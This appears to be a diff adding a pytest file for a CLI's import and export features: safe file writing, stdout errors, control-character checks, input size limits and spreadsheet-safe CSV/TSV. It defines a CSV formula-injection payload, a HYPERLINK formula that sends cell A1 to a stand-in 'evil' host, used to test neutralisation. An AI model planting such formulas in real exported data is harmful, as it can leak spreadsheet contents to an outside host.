@@ -1,0 +1,387 @@
+"""Files in and out (issue 15, part A): the one output-file writer, the one input reader, stdout that
+cannot be written, spreadsheet-safe CSV/TSV, control characters, and the one instant format.
+
+Every test that touches the database runs on SQLite and on the real PostgreSQL the suite starts.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import stat
+import subprocess
+import sys
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+from unittest import mock
+
+import pytest
+
+from bapp_cli.services.transfer import formats
+from tests.conftest import REPO, Bapp
+
+EVIL = '=HYPERLINK("http://evil/?"&A1,"Click")'
+
+
+def clients_in(bapp: Bapp) -> list[dict[str, object]]:
+    result = bapp("export", "clients", "--format", "jsonl")
+    assert result.exit_code == 0, result.stderr
+    return [json.loads(line) for line in result.stdout.splitlines()]
+
+
+def write_csv(path: Path, rows: list[tuple[str, str]]) -> Path:
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\n")
+    writer.writerow(["email", "name"])
+    writer.writerows(rows)
+    path.write_text(buffer.getvalue(), encoding="utf-8")
+    return path
+
+
+@pytest.fixture
+def umask_022() -> Iterator[None]:
+    previous = os.umask(0o022)
+    try:
+        yield
+    finally:
+        os.umask(previous)
+
+
+# -- item 1: a rejects path that is the input ---------------------------------------------------------
+
+
+def test_a_rejects_path_that_is_the_input_is_refused_before_reading(bapp: Bapp, tmp_path: Path) -> None:
+    source = write_csv(tmp_path / "rj.csv", [("ada@example.com", "Ada"), ("not-an-email", "Bad")])
+    before = source.read_bytes()
+    (tmp_path / "link.csv").symlink_to(source)
+    os.link(source, tmp_path / "hard.csv")
+    for rejects in (source, tmp_path / "link.csv", tmp_path / "hard.csv", Path(os.path.relpath(source))):
+        result = bapp("import", "clients", str(source), "--continue-on-error", "--rejects", str(rejects))
+        assert result.exit_code == 6, result.stderr
+        assert f"--rejects: {rejects} is the input file" in result.stderr
+        assert source.read_bytes() == before
+    # the other way round: the input named through the link, the rejects by the file itself
+    through_link = bapp(
+        "import", "clients", str(tmp_path / "link.csv"), "--continue-on-error", "--rejects", str(source)
+    )
+    assert through_link.exit_code == 6 and source.read_bytes() == before
+    assert clients_in(bapp) == []
+
+
+# -- item 4: rejects that cannot be kept roll the import back -------------------------------------------
+
+
+def test_rejects_that_cannot_be_written_roll_the_whole_import_back(bapp: Bapp, tmp_path: Path) -> None:
+    source = write_csv(tmp_path / "in.csv", [("ada@example.com", "Ada"), ("not-an-email", "Bad")])
+    full = tmp_path / "full.csv"
+    full.symlink_to("/dev/full")
+    result = bapp("import", "clients", str(source), "--continue-on-error", "--rejects", str(full))
+    assert result.exit_code == 74, result.stderr
+    assert f"--rejects: cannot write {full}: No space left on device" in result.stderr
+    assert "unexpected" not in result.stderr
+    assert clients_in(bapp) == []  # the good row was not committed: its rejected neighbour would be lost
+    assert full.is_symlink() and stat.S_ISCHR(os.stat(full).st_mode)
+    # a directory as the rejects path is refused before anything is read or written
+    folder = bapp("import", "clients", str(source), "--continue-on-error", "--rejects", str(tmp_path))
+    assert folder.exit_code == 6 and "is a directory" in folder.stderr
+    assert clients_in(bapp) == []
+    kept = bapp("import", "clients", str(source), "--continue-on-error", "--rejects", str(tmp_path / "r.csv"))
+    assert kept.exit_code == 3 and [client["email"] for client in clients_in(bapp)] == ["ada@example.com"]
+    assert "not-an-email" in (tmp_path / "r.csv").read_text()
+
+
+# -- item 2: what export -o writes to -----------------------------------------------------------------
+
+
+def test_export_follows_a_symlink_and_keeps_the_mode_of_the_file_it_replaces(
+    bapp: Bapp, tmp_path: Path, umask_022: None
+) -> None:
+    assert bapp("import", "clients", str(write_csv(tmp_path / "in.csv", [("ada@example.com", "Ada")]))).exit_code == 0
+    target = tmp_path / "target.csv"
+    target.write_text("stale\n")
+    link = tmp_path / "link.csv"
+    link.symlink_to(target)
+    assert bapp("export", "clients", "-o", str(link)).exit_code == 0
+    assert link.is_symlink() and os.readlink(link) == str(target)
+    assert target.read_text().startswith("id,email,name") and "ada@example.com" in target.read_text()
+    private = tmp_path / "private.json"
+    private.write_text("{}")
+    private.chmod(0o600)
+    group = tmp_path / "group.json"
+    group.write_text("{}")
+    group.chmod(0o640)
+    for path, mode in ((private, 0o600), (group, 0o640)):
+        assert bapp("export", "clients", "-o", str(path)).exit_code == 0
+        assert stat.S_IMODE(path.stat().st_mode) == mode and json.loads(path.read_text())[0]["name"] == "Ada"
+    backup = tmp_path / "backup.json"
+    assert bapp("export", "all", "-o", str(backup)).exit_code == 0
+    assert stat.S_IMODE(backup.stat().st_mode) == 0o600  # a backup holds everything: private from the start
+    fresh = tmp_path / "fresh.csv"
+    assert bapp("export", "clients", "-o", str(fresh)).exit_code == 0
+    assert stat.S_IMODE(fresh.stat().st_mode) == 0o644  # as `open()` under the umask would make it
+    assert sorted(path.name for path in tmp_path.iterdir() if "partial" in path.name) == []
+
+
+def test_export_to_a_fifo_writes_into_it_and_leaves_it_a_fifo(bapp: Bapp, tmp_path: Path) -> None:
+    assert bapp("import", "clients", str(write_csv(tmp_path / "in.csv", [("ada@example.com", "Ada")]))).exit_code == 0
+    fifo = tmp_path / "pipe.csv"
+    os.mkfifo(fifo)
+    received: list[bytes] = []
+    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()), daemon=True)
+    reader.start()
+    result = bapp("export", "clients", "-o", str(fifo))
+    reader.join(timeout=30)
+    if reader.is_alive():  # nothing ever opened the FIFO for writing: release the reader, then fail below
+        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
+        reader.join(timeout=30)
+    assert result.exit_code == 0, result.stderr
+    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
+    assert received and b"ada@example.com" in received[0]
+
+
+def test_export_to_a_full_device_is_exit_74_and_the_device_stays(bapp: Bapp, tmp_path: Path) -> None:
+    assert bapp("import", "clients", str(write_csv(tmp_path / "in.csv", [("ada@example.com", "Ada")]))).exit_code == 0
+    full = tmp_path / "full.json"
+    full.symlink_to("/dev/full")
+    result = bapp("export", "clients", "-o", str(full))
+    assert result.exit_code == 74
+    assert result.stderr.startswith(f"Error: --output: cannot write {full}: No space left on device")
+    assert full.is_symlink() and stat.S_ISCHR(os.stat("/dev/full").st_mode)
+    assert [path.name for path in tmp_path.iterdir() if "partial" in path.name] == []
+
+
+# -- item 15: paths that cannot be written --------------------------------------------------------------
+
+
+def test_paths_that_cannot_be_written_are_refused_naming_the_path(bapp: Bapp, tmp_path: Path) -> None:
+    a_file = tmp_path / "plain.txt"
+    a_file.write_text("keep me\n")
+    cases = {
+        str(tmp_path): "is a directory",
+        f"{tmp_path}/new-folder/": "a directory name",
+        str(a_file / "x.csv"): "Not a directory",
+        str(tmp_path / "missing" / "x.csv"): "No such file or directory",
+    }
+    for path, reason in cases.items():
+        result = bapp("export", "clients", "-o", path)
+        assert result.exit_code == 6, (path, result.stderr)
+        assert f"Error: --output: cannot write {path}: " in result.stderr and reason in result.stderr
+        assert "unexpected" not in result.stderr
+    assert a_file.read_text() == "keep me\n"
+
+
+def test_an_immutable_or_read_only_file_is_refused_and_kept(bapp: Bapp, tmp_path: Path) -> None:
+    locked = tmp_path / "locked.csv"
+    locked.write_text("keep me\n")
+    if os.geteuid() == 0:  # root writes through modes, not through the immutable flag
+        subprocess.run(["chattr", "+i", str(locked)], check=True)
+    else:
+        locked.chmod(0o444)
+    try:
+        result = bapp("export", "clients", "-o", str(locked))
+        assert result.exit_code == 6, result.stderr
+        assert f"--output: cannot write {locked}: Permission denied" in result.stderr
+        assert locked.read_text() == "keep me\n"
+    finally:
+        if os.geteuid() == 0:
+            subprocess.run(["chattr", "-i", str(locked)], check=True)
+    assert [path.name for path in tmp_path.iterdir() if "partial" in path.name] == []
+
+
+# -- item 11: an extension bapp does not write ----------------------------------------------------------
+
+
+def test_an_unknown_extension_is_exit_6_on_export_and_import(bapp: Bapp, tmp_path: Path) -> None:
+    sheet = tmp_path / "x.xlsx"
+    result = bapp("export", "clients", "-o", str(sheet))
+    assert result.exit_code == 6 and f"cannot tell the format of '{sheet}' from its name" in result.stderr
+    assert "--format csv|tsv|json|jsonl|toml" in result.stderr and not sheet.exists()
+    sheet.write_text("email,name\nada@example.com,Ada\n")
+    imported = bapp("import", "clients", str(sheet))
+    assert imported.exit_code == 6 and "--input-format" in imported.stderr
+    assert bapp("export", "clients", "-o", str(sheet), "--format", "csv").exit_code == 0
+    assert sheet.read_text().startswith("id,email,name")
+    # no extension at all (`-o /dev/stdout`, `-o backup`) still means JSON
+    assert bapp("export", "clients", "-o", str(tmp_path / "backup")).exit_code == 0
+    assert json.loads((tmp_path / "backup").read_text()) == json.loads(bapp("export", "clients").stdout)
+
+
+# -- item 16: stdout that cannot be written -----------------------------------------------------------
+
+
+def test_stdout_on_a_full_device_is_exit_74_with_a_clear_message(bapp: Bapp, tmp_path: Path) -> None:
+    assert bapp("import", "clients", str(write_csv(tmp_path / "in.csv", [("ada@example.com", "Ada")]))).exit_code == 0
+    commands = [("clients", "list"), ("export", "clients"), ("clients", "list", "--json")]
+    commands += [("--version",), ("--help",), ("db",), ("clients", "list", "--help")]  # the launcher, help
+    for args in commands:
+        with open("/dev/full", "w") as full:
+            completed = subprocess.run(
+                [sys.executable, "-m", "bapp_cli", *args],
+                env=bapp._environment(None),
+                stdout=full,
+                stderr=subprocess.PIPE,
+                text=True,
+                cwd=REPO,
+                timeout=120,
+            )
+        assert completed.returncode == 74, (args, completed.stderr)
+        assert completed.stderr.startswith("Error: cannot write to stdout: No space left on device\n"), completed.stderr
+        assert "Traceback" not in completed.stderr and "unexpected" not in completed.stderr
+
+
+def test_a_closed_pipe_ends_quietly_with_the_sigpipe_status(bapp: Bapp, tmp_path: Path) -> None:
+    rows = [(f"client{number}@example.com", f"Client {number}") for number in range(3000)]
+    assert bapp("import", "clients", str(write_csv(tmp_path / "in.csv", rows))).exit_code == 0
+    for args in (("clients", "list", "--format", "tsv"), ("export", "clients")):
+        process = subprocess.Popen(
+            [sys.executable, "-m", "bapp_cli", *args],
+            env=bapp._environment(None),
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            cwd=REPO,
+        )
+        assert process.stdout is not None and process.stderr is not None
+        assert process.stdout.readline()  # like `| head -1`: one line, then the reader goes away
+        process.stdout.close()
+        stderr = process.stderr.read().decode()
+        assert process.wait(timeout=120) == 141, stderr
+        assert stderr == ""
+
+
+# -- item 7: spreadsheet-safe CSV and TSV ----------------------------------------------------------------
+
+
+def test_formula_cells_are_neutralised_in_csv_and_tsv_and_imports_round_trip(bapp: Bapp, tmp_path: Path) -> None:
+    names = [EVIL, "+44 20 7946 0000", "-minus", "@at", "'=already quoted", "Plain O'Neil"]
+    rows = [(f"c{index}@example.com", name) for index, name in enumerate(names)]
+    assert bapp("import", "clients", str(write_csv(tmp_path / "in.csv", rows)), "--raw").exit_code == 0
+    stored = {client["email"]: client["name"] for client in clients_in(bapp)}
+    assert stored == dict(rows)  # --raw on import: cells exactly as given
+
+    expected = ["'" + EVIL, "'+44 20 7946 0000", "'-minus", "'@at", "''=already quoted", "Plain O'Neil"]
+    for fmt in ("csv", "tsv"):
+        exported = bapp("export", "clients", "--format", fmt)
+        listed = bapp("clients", "list", "--format", fmt)
+        for result in (exported, listed):
+            reader = csv.DictReader(io.StringIO(result.stdout), delimiter="," if fmt == "csv" else "\t")
+            assert [row["name"] for row in reader] == expected, (fmt, result.stdout)
+        path = tmp_path / f"out.{fmt}"
+        assert bapp("export", "clients", "-o", str(path)).exit_code == 0
+        again = bapp("import", "clients", str(path), "--json")
+        assert again.exit_code == 0 and again.json()["unchanged"] == len(names), again.stdout + again.stderr
+    # JSON is for programs: untouched
+    assert [client["name"] for client in json.loads(bapp("clients", "list", "--json").stdout)] == names
+
+    raw = tmp_path / "raw.csv"
+    assert bapp("export", "clients", "-o", str(raw), "--raw").exit_code == 0
+    assert [row["name"] for row in csv.DictReader(raw.open(newline=""))] == names
+    assert bapp("import", "clients", str(raw), "--raw", "--json").json()["unchanged"] == len(names)
+    assert {client["email"]: client["name"] for client in clients_in(bapp)} == dict(rows)
+
+
+def test_rejects_are_written_as_the_import_read_them(bapp: Bapp, tmp_path: Path) -> None:
+    source = write_csv(tmp_path / "in.csv", [("not-an-email", "'" + EVIL), ("ada@example.com", "Ada")])
+    rejects = tmp_path / "rejects.csv"
+    result = bapp("import", "clients", str(source), "--continue-on-error", "--rejects", str(rejects))
+    assert result.exit_code == 3, result.stderr
+    rows = list(csv.DictReader(rejects.open(newline="")))
+    assert rows[0]["name"] == "'" + EVIL  # neutralised again, and the same value once imported
+    fixed = write_csv(tmp_path / "fixed.csv", [("bob@example.com", rows[0]["name"])])
+    assert bapp("import", "clients", str(fixed)).exit_code == 0
+    assert {client["email"]: client["name"] for client in clients_in(bapp)}["bob@example.com"] == EVIL
+
+
+# -- item 5: control characters ------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("nul.csv", 'email,name\nada@example.com,Ada\nbob@example.com,"Bo\x00b"\n'),
+        ("esc.tsv", "email\tname\nada@example.com\tAda\nbob@example.com\tBo\x1b[31mb\n"),
+        (
+            "nul.jsonl",
+            '{"email": "ada@example.com", "name": "Ada"}\n{"email": "bob@example.com", "name": "Bo\\u0000b"}\n',
+        ),
+        ("surrogate.json", '[{"email": "ada@example.com"},\n {"email": "bob@example.com", "name": "\\ud800"}]\n'),
+        (
+            "nul.toml",
+            '[[clients]]\nemail = "ada@example.com"\n\n[[clients]]\nemail = "bob@example.com"\nname = "B\\u0000"\n',
+        ),
+    ],
+)
+def test_control_characters_in_text_are_refused_naming_line_and_field(
+    bapp: Bapp, tmp_path: Path, name: str, content: str
+) -> None:
+    path = tmp_path / name
+    path.write_text(content, encoding="utf-8")
+    result = bapp("import", "clients", str(path), "--json")
+    assert result.exit_code == 6, result.stderr
+    error = json.loads(result.stderr.splitlines()[-1])["error"]
+    line = {"csv": 3, "tsv": 3, "jsonl": 2, "json": 2, "toml": 4}[name.rsplit(".", 1)[1]]
+    assert error["details"] == [{"line": line, "field": "name", "message": error["details"][0]["message"]}], error
+    assert "control character U+" in error["details"][0]["message"]
+    assert clients_in(bapp) == []
+
+
+def test_a_control_character_inside_a_json_cell_is_found(bapp: Bapp, tmp_path: Path) -> None:
+    skills = tmp_path / "skills.csv"
+    skills.write_text('slug,name,links\nok,OK,"[""https://a.example/\\u0007""]"\n', encoding="utf-8")
+    result = bapp("import", "skills", str(skills))
+    assert result.exit_code == 6 and "line 2, links[0]: holds the control character U+0007" in result.stderr
+
+
+def test_a_backup_holding_a_nul_is_refused_with_its_line_not_a_crash(bapp: Bapp, tmp_path: Path) -> None:
+    backup = tmp_path / "backup.json"
+    assert bapp("export", "all", "-o", str(backup)).exit_code == 0
+    document = json.loads(backup.read_text())
+    document["clients"] = [
+        {"id": 7, "email": "nul@example.com", "name": "N\x00L", "created_at": "2030-01-01T00:00:00Z"}
+    ]
+    backup.write_text(json.dumps(document, indent=1))
+    result = bapp("import", "all", str(backup))
+    assert result.exit_code == 6, result.stderr
+    assert "field name: holds the control character U+0000" in result.stderr and "unexpected" not in result.stderr
+    assert clients_in(bapp) == []
+
+
+# -- item 26: one instant format --------------------------------------------------------------------------
+
+
+def test_an_instant_reads_the_same_in_every_output(bapp: Bapp, tmp_path: Path) -> None:
+    assert bapp("import", "clients", str(write_csv(tmp_path / "in.csv", [("ada@example.com", "Ada")]))).exit_code == 0
+    exported = json.loads(bapp("export", "clients").stdout)[0]["created_at"]
+    listed = json.loads(bapp("clients", "list", "--json").stdout)[0]["created_at"]
+    as_csv = next(csv.DictReader(io.StringIO(bapp("clients", "list", "--format", "csv").stdout)))["created_at"]
+    exported_csv = next(csv.DictReader(io.StringIO(bapp("export", "clients", "--format", "csv").stdout)))
+    assert exported == listed == as_csv == exported_csv["created_at"]
+    assert exported.endswith("Z") and "+" not in exported
+
+
+# -- the one input reader: endless or odd inputs --------------------------------------------------------
+
+
+def test_endless_or_odd_inputs_are_refused_not_read_forever(bapp: Bapp, tmp_path: Path) -> None:
+    reasons = {
+        "csv": "line 1: a line longer than 1048576 bytes",
+        "tsv": "line 1: a line longer than 1048576 bytes",
+        "jsonl": "line 1: a line longer than 67108864 bytes",
+        "json": "line 1: malformed JSON: expected an array of objects or an object, found '\\x00'",
+        "toml": "a TOML document larger than 64 MB",
+    }
+    for fmt, reason in reasons.items():
+        result = bapp("import", "clients", "/dev/zero", "--input-format", fmt)
+        assert result.exit_code == 6 and result.stderr.startswith(f"Error: {reason}"), (fmt, result.stderr)
+    endless_value = tmp_path / "endless.json"
+    endless_value.write_text('[{"email": "' + "a" * (4 << 20))
+    with mock.patch.object(formats, "MAX_VALUE_BYTES", 1 << 20):  # the real bound is 64 MB
+        result = bapp("import", "clients", str(endless_value))
+    assert result.exit_code == 6 and "line 1: a JSON value longer than 1048576 bytes" in result.stderr
+    listing = bapp("calendly", "sync", "--from-file", "/dev/zero")
+    assert listing.exit_code == 6 and "--from-file: cannot read /dev/zero: larger than 256 MB" in listing.stderr
+    folder = bapp("calendly", "sync", "--from-file", str(tmp_path))
+    assert folder.exit_code == 6 and f"--from-file: cannot read {tmp_path}: Is a directory" in folder.stderr
+    assert clients_in(bapp) == []
